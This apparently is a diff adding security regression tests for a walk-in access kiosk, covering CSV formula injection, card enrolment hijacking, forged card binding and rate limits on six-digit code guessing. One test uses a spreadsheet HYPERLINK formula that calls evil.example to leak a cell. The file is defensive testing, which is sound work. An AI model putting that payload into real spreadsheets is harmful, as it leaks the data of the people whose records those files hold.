@@ -1,0 +1,170 @@
+"""The review's faults on the appliance's public surfaces, each played as an attacker would play it: at the
+touchscreen, on the site's Wi-Fi, through what a walk-in types. Each test passes only on the fixed code."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import re
+from collections.abc import Iterator
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+from playwright.sync_api import Page, expect
+from sqlalchemy import select
+
+from access.ledger import slot_at
+from access.models import Credential, Pass
+from common.words import Slot
+from halfday.sample import ALICE, NEW_BADGE
+from kiosk.app import create_app
+from kiosk.serve import KioskServer
+from tests.support.door import DoorRig
+from tests.support.kiosk import TEST_TUNING, record_taps
+from tests.support.site import MANAGER_PASSWORD, Site
+from tests.support.wait import wait_until
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Voir")'
+
+
+@pytest.fixture
+def app(site: Site) -> Iterator[Flask]:
+    application = create_app(site.config, connect_bus=False, tuning=TEST_TUNING)
+    yield application
+    application.extensions["halfday.kiosk"].close()
+
+
+@pytest.fixture
+def client(app: Flask) -> FlaskClient:
+    return app.test_client()
+
+
+def form_token(client: FlaskClient, url: str) -> str:
+    found = re.search(r'name="csrf_token" value="([^"]+)"', client.get(url).text)
+    assert found is not None, f"no form on {url}"
+    return found.group(1)
+
+
+def sign_in(client: FlaskClient, site: Site) -> None:
+    site.set_password()
+    token = form_token(client, "/admin/login")
+    assert client.post("/admin/login", data={"csrf_token": token, "password": MANAGER_PASSWORD}).status_code == 302
+
+
+def test_a_walk_ins_name_never_becomes_a_formula_in_the_managers_spreadsheet(site: Site, client: FlaskClient) -> None:
+    token = form_token(client, "/buy/pass_halfday")
+    bought = client.post(
+        "/buy/pass_halfday",
+        data={"csrf_token": token, "name": FORMULA, "email": "eve@example.org", "provider": "counter"},
+    )
+    assert bought.status_code == 302
+    with site.db.read() as session:
+        pass_id = session.scalars(select(Pass.id)).one()
+    record_taps(site, [f"pass:{pass_id}"])  # the walk-in comes in: a half-day used, under that name
+    sign_in(client, site)
+    month = dt.datetime.now(site.config.site.tz).strftime("%Y-%m")
+    for what in ("usage", "summary"):
+        exported = client.get(f"/admin/exports/{what}/{month}.csv")
+        assert exported.status_code == 200
+        rows = list(csv.reader(io.StringIO(exported.text.removeprefix("\ufeff")), delimiter=";"))
+        names = [row[rows[0].index("name")] for row in rows[1:]]
+        assert f"'{FORMULA}" in names, names  # shown as text, never evaluated
+        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+# ---------------------------------------------------------------------------------------------- 1. card linking
+
+
+def test_linking_a_card_never_catches_a_members_badge(
+    page: Page, site: Site, kiosk: KioskServer, door: DoorRig
+) -> None:
+    """A walk-in presses "link a card" and waits; a member arrives and badges meanwhile."""
+    page.goto(kiosk.url + "/buy/pass_halfday")
+    page.fill("#name", "Eve Attaquante")
+    page.fill("#email", "eve@example.org")
+    page.click("#bind-card")
+    assert wait_until(lambda: door.daemon.enrol is not None, timeout=5)
+    door.tap(ALICE)
+    # Alice is decided on as usual: the door opens for her and her entry is recorded...
+    assert wait_until(lambda: door.relay_states()[:2] == [False, True], timeout=5)
+    entries = door.wait_events(1, "entry")
+    assert (entries[0].data["uid"], entries[0].data["granted"]) == (ALICE, True)
+    # ...and her badge goes to nobody's screen; the walk-in's request still waits for a card nobody holds.
+    assert door.daemon.enrol is not None
+    assert ALICE not in page.content()
+    door.tap(NEW_BADGE)
+    expect(page.locator("#card-status")).to_have_text("Carte associée : elle vous ouvrira la porte.")
+    assert NEW_BADGE not in page.content() and ALICE not in page.content()
+
+
+def test_a_sale_binds_only_a_card_tapped_at_the_reader(site: Site, client: FlaskClient) -> None:
+    """The sale's form once took the card's UID from the request: any badge could be bound without a tap."""
+    for field, value in (("card", NEW_BADGE), ("card_token", "forged-token")):
+        token = form_token(client, "/buy/pass_halfday")
+        data = {"csrf_token": token, "name": "Eve", "email": "eve@example.org", "provider": "counter", field: value}
+        assert client.post("/buy/pass_halfday", data=data).status_code == 302
+    with site.db.read() as session:
+        assert session.scalars(select(Credential).where(Credential.pass_id.is_not(None))).all() == []
+        alice = session.scalars(select(Credential).where(Credential.value == ALICE)).one()
+        assert alice.member_id is not None and alice.pass_id is None
+
+
+# ---------------------------------------------------------------------------------------------- 3. guessing
+
+
+def enter_code(client: FlaskClient, code: str) -> tuple[int, str]:
+    token = form_token(client, "/code")
+    answer = client.post("/code", data={"csrf_token": token, "code": code})
+    return answer.status_code, answer.text
+
+
+def buy_pass(client: FlaskClient, site: Site) -> str:
+    token = form_token(client, "/buy/pass_halfday")
+    data = {"csrf_token": token, "name": "Zoé", "email": "zoe@example.org", "provider": "counter"}
+    assert client.post("/buy/pass_halfday", data=data).status_code == 302
+    with site.db.read() as session:
+        return session.scalars(select(Pass.code).order_by(Pass.created_at.desc())).first() or ""
+
+
+def test_ones_own_valid_code_does_not_reset_a_guessers_count(app: Flask, site: Site) -> None:
+    guesser = app.test_client()
+    own_code = buy_pass(guesser, site)
+    wrong = [f"{n:06d}" for n in range(100000, 100100) if f"{n:06d}" != own_code]
+    statuses = []
+    for round_ in range(3):
+        for code in wrong[round_ * 4 : round_ * 4 + 4]:
+            statuses.append(enter_code(guesser, code)[0])
+        statuses.append(enter_code(guesser, own_code)[0])  # a success in between once wiped the count
+    assert 429 in statuses, statuses  # the sixth failure within the window holds the guesser back
+    assert enter_code(guesser, own_code)[0] == 429  # even with a good code, until the failures age out
+
+
+def test_one_guesser_does_not_lock_out_the_next_visitor(app: Flask, site: Site) -> None:
+    guesser, visitor = app.test_client(), app.test_client()
+    visitor_code = buy_pass(visitor, site)
+    while enter_code(guesser, "000000")[0] != 429:
+        pass
+    assert enter_code(visitor, visitor_code)[0] == 200  # the next person at the screen gets in
+    # The guesser's own vouchers are counted apart from its codes.
+    token = form_token(guesser, "/buy/pass_halfday")
+    data = {
+        "csrf_token": token,
+        "name": "Eve",
+        "email": "eve@example.org",
+        "provider": "voucher",
+        "voucher": "1K4P7RQDM2XA",
+    }
+    assert "Trop d" not in guesser.post("/buy/pass_halfday", data=data).text
+
+
+def test_a_code_out_of_its_slot_answers_like_a_wrong_one(client: FlaskClient, site: Site) -> None:
+    code = buy_pass(client, site)
+    now = slot_at(dt.datetime.now(dt.UTC), site.config.site.rules)
+    other = Slot.AFTERNOON if now.slot == Slot.MORNING else Slot.MORNING
+    with site.db.write() as session:
+        session.scalars(select(Pass).where(Pass.code == code)).one().slots = other.value
+    _, expired = enter_code(client, code)
+    _, wrong = enter_code(client, "999999" if code != "999999" else "999998")
+    assert re.sub(r"csrf_token\" value=\"[^\"]+", "", expired) == re.sub(r"csrf_token\" value=\"[^\"]+", "", wrong)
